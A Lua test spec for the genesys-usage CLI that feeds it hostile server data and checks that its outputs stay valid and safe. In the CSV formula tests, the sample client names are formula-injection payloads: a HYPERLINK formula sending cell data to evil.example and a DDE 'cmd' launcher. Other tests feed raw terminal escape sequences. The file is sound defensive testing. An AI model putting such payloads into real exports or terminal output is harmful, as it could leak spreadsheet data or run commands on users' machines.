-- genesys-usage's outputs against a hostile server (issue #17, items 6, 14, 15, 16 and 19): whatever the
-- server sends, every format is valid and safe, and no number makes a writer loop or allocate without end.
--   6   counts of 1.7e308, 2^63-1, negative, all zero, tiny fractions, a sum past the largest double: the
--       report ends at once in every format (it looped forever on 1.7e308, deaf to SIGTERM), its SVG and
--       HTML coordinates are finite, its JSON has no NaN or Infinity
--   14  client names a spreadsheet runs as formulas (= + - @ tab CR, also after blanks) are text in CSV,
--       unless --raw-csv
--   15  C0/C1 controls, DEL, BIDI overrides and isolates, zero-width characters and NUL never reach a
--       terminal raw (table on stdout, every line on stderr), nor NUL a CSV file
--   16  ill-formed UTF-8, U+FFFE and U+FFFF: every format is valid (table, CSV, JSON, NDJSON, SVG, HTML)
--   19  rows dated outside the days asked for are left out, and said on stderr with their dates
-- Verdicts come from real parsers (spec/support/outputs.py: Python's json, csv, xml.dom.minidom,
-- html.parser and unicodedata), not from this code's own idea of valid.

local hostile = require "support.hostile"
local nginx = require "support.nginx"
local support = require "support.cli"
local cjson = require("cjson").new()

local TOKEN = "tok-" .. string.rep("Kp4", 30)
local PY = support.REPO .. "/spec/support/outputs.py"

assert(nginx.run("command -v python3 >/dev/null 2>&1"), "these specs need python3 (its json, csv, xml and unicodedata)")

-- a UTC date k days before today
local function day(k) return os.date("!%Y-%m-%d", os.time() - k * 86400) end

-- JSON text of a Lua value, strings written byte for byte (only ", \ and C0 controls escaped): the server
-- may send any bytes. { raw = "1.7e308" } is written as it is.
local function jsonish(v)
  local t = type(v)
  if t == "string" then
    return '"' .. v:gsub('[%c"\\]', function(c)
      if c == '"' or c == "\\" then return "\\" .. c end
      if c:byte() == 127 then return c end
      return string.format("\\u%04x", c:byte())
    end) .. '"'
  end
  if t == "number" then return math.type and math.type(v) == "integer" and string.format("%d", v) or string.format("%.17g", v) end
  if t == "table" and v.raw then return v.raw end
  if t == "table" and #v > 0 then
    local out = {}
    for i, x in ipairs(v) do out[i] = jsonish(x) end
    return "[" .. table.concat(out, ",") .. "]"
  end
  local keys, out = {}, {}
  for k in pairs(v) do keys[#keys + 1] = k end
  table.sort(keys)
  for i, k in ipairs(keys) do out[i] = jsonish(k) .. ":" .. jsonish(v[k]) end
  return "{" .. table.concat(out, ",") .. "}"
end

-- a row of both report jobs (client and endpoint)
local function row(date, count, name, extra)
  local r = { date = date, requestCount = count, status200 = 0, status300 = 0, status400 = 0, status429 = 0,
              status500 = 0, oauthClient = { id = "id-" .. tostring(name):gsub("[^%w]", ""):sub(1, 20), name = name },
              templateUri = "api/v2/x", httpMethod = "GET" }
  for k, v in pairs(extra or {}) do r[k] = v end
  return r
end

describe("genesys-usage's outputs against a hostile server", function()
  local srv, t

  setup(function()
    srv = hostile.start()
    t = support.new { base_url = srv.base_url, client_id = "hostile-out", client_secret = "hostile-out-secret" }
  end)

  teardown(function()
    if srv then srv:stop() end
    if t then t:cleanup() end
  end)

  local function fail(r, what)
    error((what or "assertion failed") .. "\n" .. support.show(r) .. "\n" .. srv:diagnostics(), 2)
  end
  local function check(cond, r, what)
    if not cond then fail(r, what) end
  end

  -- the server: aggregates jobs answer `entities`, old-generation queries `results` (JSON texts)
  local function serve(entities, results)
    srv:script(hostile.with_login(TOKEN, string.format([[
local ENTITIES, RESULTS = %q, %q
return function(req)
  if req.path == "/api/v2/usage/query" then
    return 200, nil, '{"executionId":"exec-1","resultsUri":"/api/v2/usage/query/exec-1/results"}'
  end
  if req.path:find("/usage/summary", 1, true) then
    return 200, nil, '{"executionId":"exec-2","resultsUri":"/x"}'
  end
  if req.path:find("/api/v2/usage/query/", 1, true) or req.path:find("/usage/query/results/", 1, true) then
    return 200, nil, '{"queryStatus":"Complete","results":' .. RESULTS .. '}'
  end
  if req.method == "POST" then return 200, nil, '{"id":"job-' .. req.n .. '"}' end
  return 200, nil, '{"queryStatus":"Succeeded","entities":' .. ENTITIES .. '}'
end]], jsonish(entities), jsonish(results or {}))))
  end

  -- a run that may not hang: killed after `seconds` (code nil then)
  local function bounded(args, seconds, opts)
    local p = t:spawn(args, opts)
    local code = p:wait(seconds or 30)
    if not code then p:stop() end
    return { code = code, out = p:stdout(), err = p:stderr(), args = args }
  end

  -- the real parsers' verdict on a file (or on text, written to a file first)
  local seq = 0
  local function verdict(mode, path, text)
    if text then
      seq = seq + 1
      path = t:path("verdict-" .. seq)
      nginx.write_file(path, text)
    end
    local p = io.popen("python3 " .. nginx.sh_quote(PY) .. " " .. mode .. " " .. nginx.sh_quote(path) .. " 2>&1")
    local out = p:read("*a")
    p:close()
    local ok, v = pcall(cjson.decode, out)
    if not ok or type(v) ~= "table" then return nil, "outputs.py: " .. out end
    if v.fail then return nil, v.fail end
    return v.ok
  end
  local function valid(mode, r, path, text)
    local v, why = verdict(mode, path, text)
    if v == nil then fail(r, mode .. " output refused by its parser: " .. tostring(why)) end
    return v
  end

  ------------------------------------------------------------------------------------------------
  describe("numbers (#17.6)", function()
    local D1, D2, D3 = day(3), day(2), day(1)
    local cases = {
      { "a count of 1.7e308", { row(D2, { raw = "1.7e308" }, "huge"), row(D1, 5, "small") } },
      { "a count of 2^63-1", { row(D2, { raw = "9223372036854775807" }, "max"), row(D3, 1, "one") } },
      { "negative counts", { row(D2, -5, "neg"), row(D1, -7, "neg2", { status429 = -3 }) } },
      { "a zero total", { row(D2, 0, "zero"), row(D1, 0, "zero2") } },
      { "tiny fractions", { row(D2, { raw = "1e-300" }, "tiny"), row(D1, { raw = "5e-324" }, "tinier") } },
      { "two counts of 1e308 on one day (a sum past the largest double)",
        { row(D2, { raw = "1e308" }, "a"), row(D2, { raw = "1e308" }, "b") } },
    }
    for _, case in ipairs(cases) do
      it("the report with " .. case[1] .. ": ends at once in every format, each one valid", function()
        serve(case[2])
        for _, fmt in ipairs { "svg", "html", "json", "ndjson", "csv", "table" } do
          local out = t:path("num." .. fmt)
          os.remove(out)
          local r = bounded({ "report", "--last", "3d", "--format", fmt, "--output", out, "--scale", "auto", "--quiet" }, 30)
          check(r.code ~= nil, r, "still running after 30 s")
          -- a sum the command cannot give may end it (exit 1, one line); nothing else may
          check(r.code == 0 or (r.code == 1 and support.one_line(r.err)), r, "exit " .. tostring(r.code))
          check(support.no_trace(r), r, "a Lua error")
          if r.code == 0 then
            local mode = (fmt == "table") and "terminal" or fmt
            local v = valid(mode, r, out)
            if fmt == "svg" or fmt == "html" then check(v > 20, r, "too few coordinates: " .. tostring(v)) end
            local text = nginx.read_file(out)
            check(not text:find("%-?nan") and not text:find("nan%%"), r, "a nan in the output")
          end
          for _, scale in ipairs { "linear", "log" } do
            if fmt == "svg" then
              local s = bounded({ "report", "--last", "3d", "--output", out, "--scale", scale, "--quiet" }, 30)
              check(s.code ~= nil, s, "still running after 30 s (" .. scale .. ")")
              if s.code == 0 then valid("svg", s, out) end
            end
          end
        end
      end)
    end

    it("SIGTERM during the report's work ends it (143), or it has ended (0, or 1: no exact total): never deaf", function()
      serve { row(D2, { raw = "1.7e308" }, "huge"), row(D1, 5, "small") }
      local dir = t:path("term")
      assert(nginx.run("mkdir -p " .. nginx.sh_quote(dir)))
      local out = dir .. "/term.html"
      local p = t:spawn { "report", "--last", "3d", "--scale", "linear", "--output", out, "--verbose" }
      p:wait_for("job job%-%d+ started", 20)
      nginx.sleep(0.5)
      p:signal("TERM")
      local code = p:wait(10)
      local r = { code = code, err = p:stderr(), args = { "report" } }
      if not code then p:stop() end
      check(code == 0 or code == 1 or code == 143, r, "exit " .. tostring(code) .. " (nil: still running 10 s after SIGTERM)")
      check(#support.temp_files(dir) == 0, r, "a temporary file was left")
    end)
  end)

  ------------------------------------------------------------------------------------------------
  describe("CSV formulas (#17.14)", function()
    local D = day(2)
    local NAMES = {
      { '=HYPERLINK("http://evil.example/?"&A1,"click")', true }, { "+cmd|' /C calc'!A0", true },
      { "-2+3", true }, { "@SUM(A1:A9)", true }, { "\t=1+1", true }, { "\r=1+1", true }, { "  =1+1", true },
      { " \t@x", true }, { "\n-1", true }, { "plain name", false }, { "a=b", false }, { "x-1", false },
      { "", false }, { "'quoted", false },
    }
    local entities = {}
    for i, n in ipairs(NAMES) do
      entities[i] = row(D, i, n[1], { oauthClient = { id = i == 1 and "=1+1" or ("client-" .. i), name = n[1] } })
    end

    -- the rows of a CSV as python's csv module reads them, by client id
    local function by_id(rows, id_col, name_col)
      local out = {}
      for i = 2, #rows do out[rows[i][id_col]] = rows[i][name_col] end
      return out
    end

    it("a name a spreadsheet would run starts with ' in aggregates and report CSV; --raw-csv writes it as sent", function()
      serve(entities)
      for _, case in ipairs {
        { { "aggregates", "--last", "3d", "--group-by", "OauthClientId", "--metric", "Requests", "--bom", "-o", "agg.csv" }, 2, 3 },
        { { "report", "--last", "3d", "--top", "100", "--format", "csv", "-o", "rep.csv" }, 4, 5 },
      } do
        for _, raw in ipairs { false, true } do
          local args = {}
          for i, a in ipairs(case[1]) do args[i] = a end
          args[#args] = t:path(args[#args])
          if raw then args[#args + 1] = "--raw-csv" end
          local r = bounded(args, 30)
          check(r.code == 0, r, "exit " .. tostring(r.code))
          local rows = valid("csv", r, args[#args - (raw and 1 or 0)])
          local names = by_id(rows, case[2], case[3])
          for i, n in ipairs(NAMES) do
            local id = i == 1 and ((raw and "" or "'") .. "=1+1") or ("client-" .. i) -- (the id is neutralised too)
            local got = names[id]
            local want = (n[2] and not raw) and ("'" .. n[1]) or n[1]
            check(got == want, r, string.format("%s: name %q written as %q, expected %q", args[1], n[1], tostring(got), want))
          end
        end
      end
    end)

    it("--raw-csv is for CSV only", function()
      local r = t:run { "aggregates", "--last", "3d", "--format", "json", "--raw-csv" }
      check(r.code == 2 and support.one_line(r.err) and r.err:find("--raw-csv is for CSV", 1, true), r)
    end)
  end)

  ------------------------------------------------------------------------------------------------
  describe("terminal output (#17.15)", function()
    local D = day(2)
    local NASTY = {
      "\194\155" .. "31mcsi", "\194\157" .. "0;title\7osc", "\27[2Jclear", "del\127", "abc\226\128\174" .. "fed",
      "\226\129\166" .. "isolate\226\129\169", "zero\226\128\139width", "nul\0byte", "bell\7", "line\nbreak",
      "tab\tx", "soft\194\173hyphen", "tag\243\160\128\129", "rlm\226\128\143", "ls\226\128\168sep", "bom\239\187\191",
      "日本語 name",
    }

    it("the table on stdout shows controls, BIDI overrides and invisible characters escaped, aligned", function()
      local entities = {}
      for i, n in ipairs(NASTY) do
        entities[i] = row(D, i * 1000, n, { oauthClient = { id = "c" .. i, name = n } })
      end
      serve(entities)
      local r = bounded({ "aggregates", "--last", "3d", "--group-by", "OauthClientId", "--metric", "Requests" }, 30)
      check(r.code == 0, r)
      valid("terminal", r, nil, r.out)
      valid("terminal", r, nil, r.err)
      for _, shown in ipairs { "\\x9b31mcsi", "\\x1b[2Jclear", "abc\\u202efed", "\\u2066isolate\\u2069", "nul\\x00byte",
                               "line\\nbreak", "zero\\u200bwidth", "tag\\U000e0001" } do
        check(r.out:find(shown, 1, true), r, "not shown: " .. shown)
      end
      -- aligned: the last column (requests) ends where the rule under the headers ends, on every line
      local lines = {}
      for l in r.out:gmatch("[^\n]+") do lines[#lines + 1] = l end
      -- terminal columns: one per character (lead bytes), two for the CJK ones here (lead bytes E3-E9)
      local function width(s)
        local _, chars = s:gsub("[^\128-\191]", "")
        local _, wide = s:gsub("[\227-\233]", "")
        return chars + wide
      end
      local rule, n = nil, 0
      for _, l in ipairs(lines) do
        if not rule and l:match("^%-%-%-") then rule = width(l)
        elseif rule and l:match("^%d%d%d%d%-") then
          n = n + 1
          check(width(l) == rule, r, "a row not aligned: " .. l)
        end
      end
      check(rule, r, "no rule")
      check(n == #NASTY, r, "rows: " .. n)
    end)

    it("every stderr line, an error message and a job id from the server included, --verbose too", function()
      local nasty = table.concat(NASTY, " ")
      srv:script(hostile.with_login(TOKEN, string.format([[
local NASTY = %q
return function(req)
  if req.method == "POST" then return 200, nil, '{"id":"job-\\u009b\\u202e1"}' end
  return 400, { ["ININ-Correlation-Id"] = "corr\194\155\226\128\174" },
    '{"message":' .. NASTY .. ',"code":"bad.request\\u009d","status":400}'
end]], jsonish(nasty))))
      local r = bounded({ "aggregates", "--last", "3d", "--verbose" }, 30)
      check(r.code == 1, r)
      valid("terminal", r, nil, r.err)
      for line in r.err:gmatch("[^\n]+") do check(line:find("^genesys%-usage: "), r, "a stray line: " .. line) end
      check(r.err:find("\\x9b31mcsi", 1, true), r, "the message is not shown")
    end)

    it("NUL and the other C0 controls never reach a CSV file raw", function()
      local entities = {}
      for i, n in ipairs(NASTY) do entities[i] = row(D, i, n, { oauthClient = { id = "c" .. i, name = n } }) end
      serve(entities)
      local out = t:path("nul.csv")
      local r = bounded({ "aggregates", "--last", "3d", "--group-by", "OauthClientId", "-o", out }, 30)
      check(r.code == 0, r)
      local text = nginx.read_file(out)
      check(not text:find("%z"), r, "a NUL byte in the CSV")
      check(not text:find("[\1-\8\11\12\14-\31\127]"), r, "a C0 control in the CSV")
      local rows = valid("csv", r, out)
      check(#rows == #NASTY + 1, r, "rows: " .. #rows)
    end)
  end)

  ------------------------------------------------------------------------------------------------
  describe("ill-formed UTF-8 (#17.16)", function()
    local D = day(2)
    local BAD = { "\255lone", "bad\195(", "over\192\175long", "sur\237\160\128rogate", "nonchar\239\191\191",
                  "fffe\239\191\190", "ok 日本", "trunc\226\130" }

    it("every format of aggregates and report is valid UTF-8 and valid of its kind", function()
      local entities = {}
      for i, n in ipairs(BAD) do
        entities[i] = row(D, i, n, { oauthClient = { id = "c" .. i, name = n }, templateUri = "api/v2/" .. n })
      end
      serve(entities)
      for _, case in ipairs {
        { "aggregates", "table" }, { "aggregates", "csv" }, { "aggregates", "json" }, { "aggregates", "ndjson" },
        { "report", "table" }, { "report", "csv" }, { "report", "json" }, { "report", "ndjson" }, { "report", "svg" },
        { "report", "html" },
      } do
        local out = t:path("utf8." .. case[1] .. "." .. case[2])
        local args = { case[1], "--last", "3d", "--format", case[2], "-o", out, "--quiet" }
        if case[1] == "aggregates" then
          for _, a in ipairs { "--group-by", "OauthClientId,TemplateUri" } do args[#args + 1] = a end
        end
        local r = bounded(args, 30)
        check(r.code == 0, r, table.concat(case, " "))
        local v = valid(case[2] == "table" and "terminal" or case[2], r, out)
        if case[2] == "json" and case[1] == "aggregates" then check(#v.rows == #BAD, r, "rows") end
      end
    end)
  end)

  ------------------------------------------------------------------------------------------------
  describe("rows dated outside the days asked for (#17.19)", function()
    local D1, D2, D3 = day(3), day(2), day(1)
    local entities = {
      row(D1, 100, "in1"), row(D3, 200, "in3"), row(day(4), 4000, "before"), row(day(0), 8000, "today"),
      row("2020-01-01", 16000, "long ago"), row("garbage", 32000, "garbage"), row(nil, 64000, "no date"),
      row("2026-02-31", 128000, "no such day"),
    }

    local function note_ok(r, n)
      local note = r.err:match("left out (%d+) rows dated outside [^\n]*")
      check(tonumber(note) == n, r, "no note of " .. n .. " rows left out")
      for _, d in ipairs { day(4), day(0), "2020-01-01", "garbage", "(no date)", "2026-02-31" } do
        check(r.err:find(d, 1, true), r, "the note does not name " .. d)
      end
    end

    it("aggregates: not printed in any format, not in the totals, said on stderr with their dates", function()
      serve(entities)
      for _, fmt in ipairs { "table", "csv", "json", "ndjson" } do
        local out = t:path("days." .. fmt)
        local r = bounded({ "aggregates", "--last", "3d", "--group-by", "OauthClientId", "--metric", "Requests",
                            "--format", fmt, "-o", out }, 30)
        check(r.code == 0, r, fmt)
        note_ok(r, 6)
        local text = nginx.read_file(out)
        for _, big in ipairs { "4000", "8000", "16000", "32000", "64000", "128000", "4,000", "8,000" } do
          check(not text:find(big, 1, true), r, fmt .. ": a row of another day is printed (" .. big .. ")")
        end
        if fmt == "table" then check(text:find("total (2 rows)", 1, true) and text:find(" 300\n", 1, true), r, text) end
        if fmt == "json" then check(#valid("json", r, out).rows == 2, r, text) end
      end
    end)

    it("query (old generation, dates as instants): the same", function()
      local results = {}
      for i, e in ipairs(entities) do
        results[i] = { date = e.date and (e.date .. "T00:00:00Z") or nil, requests = e.requestCount,
                       clientId = e.oauthClient.id, clientName = e.oauthClient.name }
      end
      serve({}, results)
      local r = bounded({ "query", "--last", "3d", "--group-by", "OAuthClientId", "--metric", "Requests", "-f", "json" }, 30)
      check(r.code == 0, r)
      check(#valid("json", r, nil, r.out).rows == 2, r)
      check(r.err:match("left out (%d+) rows") == "6", r, "no note")
    end)

    it("summary: the days it asked for beyond the user's go silently, the others are said", function()
      local results = {}
      for i, e in ipairs(entities) do
        results[i] = { date = e.date and (e.date .. "T00:00:00Z") or nil, requests = e.requestCount,
                       clientId = "c1", clientName = "n1" }
      end
      serve({}, results)
      local r = bounded({ "summary", "c1", "--last", "3d", "-f", "json" }, 30)
      check(r.code == 0, r)
      check(#valid("json", r, nil, r.out).rows == 2, r)
      -- today and the day before the first (asked for: ?days=N ends today or yesterday) go silently; the
      -- four others are said
      check(r.err:match("left out (%d+) rows") == "4", r, "no note of 4 rows")
      check(not r.err:find(day(0), 1, true) and not r.err:find(day(4), 1, true), r, "a day asked for is said")
    end)

    it("report: left out of the totals, the tables and the chart; said on stderr", function()
      serve(entities)
      local out = t:path("days-report.json")
      local r = bounded({ "report", "--last", "3d", "-o", out }, 30)
      check(r.code == 0, r)
      local v = valid("json", r, out)
      check(v.totals.requests == 300, r, "totals: " .. tostring(v.totals.requests))
      check(#v.clients == 2, r, "clients: " .. #v.clients)
      check(r.err:match("left out (%d+) rows") == "6", r, "no note of 6 rows")
    end)

    it("with --granularity Week, a week that starts before the first day is kept; one that ends before it is not", function()
      local first = os.time() - 3 * 86400
      local wday = tonumber(os.date("!%w", first)) -- 0 Sunday .. 6 Saturday
      local monday = first - ((wday + 6) % 7) * 86400
      serve { row(os.date("!%Y-%m-%d", monday), 100, "week"), row(os.date("!%Y-%m-%d", monday - 7 * 86400), 200, "before") }
      local r = bounded({ "aggregates", "--last", "3d", "--granularity", "Week", "-f", "ndjson" }, 30)
      check(r.code == 0, r)
      local rows = valid("ndjson", r, nil, r.out)
      check(#rows == 1 and rows[1].requests == 100, r)
      check(r.err:match("left out (%d+) row") == "1", r)
    end)
  end)
end)
